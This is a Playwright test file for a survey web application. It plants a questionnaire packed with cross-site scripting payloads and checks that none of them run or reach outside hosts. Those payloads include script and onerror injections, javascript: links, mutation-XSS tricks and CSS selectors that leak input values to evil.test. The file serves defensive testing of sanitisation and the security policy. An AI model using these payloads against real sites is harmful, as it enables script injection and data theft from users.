import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type BrowserContext, expect, type Page, test } from "@playwright/test";
import { type Installation, install } from "./installation.ts";

/** A questionnaire full of payloads: each would set `hit`, or ask something of evil.test. */
const RUN = "window.hit=(window.hit||0)+1";
const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<iframe src="javascript:parent.${RUN}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}" class="trap">javascript</a><a href="java&#10;script:${RUN}" class="trap">newline</a>`,
  `<style>@import url(https://evil.test/a.css);input[value^=a]{background:url(https://evil.test/a)}</style>`,
  `<div style="background:url(https://evil.test/b)">style</div><link rel=stylesheet href=https://evil.test/c.css><base href="https://evil.test/">`,
  `<img src="https://evil.test/d.png"><img src="//evil.test/e.png"><video src="https://evil.test/f"></video><object data="https://evil.test/g"></object>`,
  `<form action="https://evil.test/h"><input name=q><button>send</button></form><meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `</div></section></astro-island><script>${RUN}</script>`,
  `<a href="https://example.org/" class="good">a good link</a>`,
].join("\n");
const TITLE = `</script><script>${RUN}</script><img src=x onerror="${RUN}">\u2028\u2029 **bold** <b>words</b> &quot;><svg onload=${RUN}>`;
const both = (text: string) => ({ "zh-cn": text, en: text });

const DEFINITION = {
  title: both(TITLE),
  description: both(TITLE),
  completedHtml: both(MARKUP),
  elements: [
    { type: "html", name: "information", html: both(MARKUP) },
    { type: "text", name: "who", title: both(TITLE), description: both(TITLE), placeholder: both(TITLE) },
    { type: "html", name: "piped", html: both('<p class="piped" title="{who}">Dear <b>{who}</b> <a href="https://evil.test/{who}">go</a></p>') },
    { type: "comment", name: "again", title: both("You are {who}?") },
    { type: "radiogroup", name: "choice", title: both(TITLE), choices: [{ value: `"><script>${RUN}</script>`, text: both(TITLE) }, { value: "b", text: both(MARKUP) }], showOtherItem: true, otherText: both(TITLE) },
    { type: "matrix", name: "grid", title: both(TITLE), columns: [1, 2], rows: [{ value: `</script><script>${RUN}</script>`, text: both(TITLE) }] },
    { type: "rating", name: "rate", minRateDescription: both(TITLE), maxRateDescription: both(TITLE) },
  ],
};

let site: Installation;
test.use({ viewport: { width: 390, height: 844 } });
test.beforeAll(async () => {
  test.setTimeout(300_000);
  site = await install({ surveys: ["pulse"] });
  const folder = join(site.folder, "surveys/hostile");
  mkdirSync(folder);
  writeFileSync(join(folder, "survey.json"), JSON.stringify(DEFINITION));
  const study = JSON.parse(readFileSync(join(site.folder, "surveys/pulse/study.json"), "utf8"));
  writeFileSync(join(folder, "study.json"), JSON.stringify({ waves: study.waves, protect: study.protect, title: both(TITLE), summary: both(TITLE), about: Object.fromEntries(Object.keys(study.about).map((key) => [key, both(TITLE)])) }));
  await site.restart();
});
test.afterAll(() => site.stop());

interface Seen {
  readonly asked: string[];
  readonly violations: string[];
  readonly problems: string[];
}

/** Counts what leaves for other sites, what the policy had to stop, and what React complains about. */
async function watch(context: BrowserContext, page: Page): Promise<Seen> {
  const seen: Seen = { asked: [], violations: [], problems: [] };
  await context.exposeFunction("report", (what: string) => seen.violations.push(what));
  await page.addInitScript("addEventListener('securitypolicyviolation', (event) => report(event.violatedDirective + ' ' + event.blockedURI))");
  context.on("request", (request) => {
    if (!request.url().startsWith(site.url) && !/^(data|blob):/.test(request.url())) seen.asked.push(request.url());
  });
  page.on("dialog", (dialog) => void dialog.dismiss());
  page.on("pageerror", (error) => seen.problems.push(error.message));
  return seen;
}

const hits = (page: Page) => page.evaluate(() => Reflect.get(window, "hit"));

async function begin(page: Page, path: string): Promise<void> {
  await page.goto(site.url + path);
  await page.locator(".consent [data-start]").first().click();
  await expect(page.locator(".questions")).toBeVisible();
}

for (const bypassCSP of [false, true])
  test(`nothing of a hostile questionnaire runs or asks, ${bypassCSP ? "even without" : "and nothing is left to"} the security policy`, async ({ browser }) => {
    const context = await browser.newContext({ bypassCSP, viewport: { width: 390, height: 844 } });
    const page = await context.newPage();
    const seen = await watch(context, page);
    for (const path of ["/", "/results/hostile/", "/data/hostile/", "/explore/hostile/", "/privacy/", "/en/results/hostile/"]) {
      await page.goto(site.url + path);
      expect.soft(await hits(page), path).toBeUndefined();
    }
    for (const path of ["/s/hostile/", "/en/s/hostile/"]) {
      await begin(page, path);
      await page.locator('[data-name="who"] input').fill(`<img src=x onerror="${RUN}"><script>${RUN}</script>{choice}`);
      await expect(page.locator('[data-name="piped"] b')).toHaveText(`<img src=x onerror="${RUN}"><script>${RUN}</script>{choice}`);
      await expect(page.locator('[data-name="again"]')).toContainText("<img src=x onerror=");
      for (const link of await page.locator('[data-name="information"] a').all()) if ((await link.getAttribute("href")) === null) await link.dispatchEvent("click");
      await page.waitForTimeout(300);
      expect.soft(await hits(page), path).toBeUndefined();
    }
    expect(seen).toEqual({ asked: [], violations: [], problems: [] });
    await context.close();
  });

test("the watch sees what runs, what asks and what the policy stops", async ({ browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const seen = await watch(context, page);
  await page.goto(`${site.url}/privacy/`);
  await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", '<img src="https://evil.test/x.png">'));
  await expect.poll(() => seen.violations).toEqual(["img-src https://evil.test/x.png"]);
  await page.evaluate("hit = 1");
  expect(await hits(page)).toBe(1);
  await context.close();
});

test("words stay readable, links open safely, and the server draws what the browser draws", async ({ browser, page }) => {
  await begin(page, "/en/s/hostile/");
  const information = page.locator('[data-name="information"] .sd-html, [data-name="information"]').last();
  const good = page.getByRole("link", { name: "a good link" });
  await expect(good).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await expect(good).toHaveAttribute("target", "_blank");
  await expect(page.locator("[data-name=information] :is(script, style, iframe, svg, form, input, video, object, [style*=url], [onerror])")).toHaveCount(0);
  await expect(page.locator('[data-name="who"]')).toContainText("bold words");
  const drawn = await information.innerHTML();
  const context = await browser.newContext({ javaScriptEnabled: false });
  const plain = await context.newPage();
  await plain.goto(`${site.url}/en/s/hostile/`);
  expect(await plain.locator('[data-name="information"] .sd-html, [data-name="information"]').last().innerHTML()).toBe(drawn);
  await context.close();
});
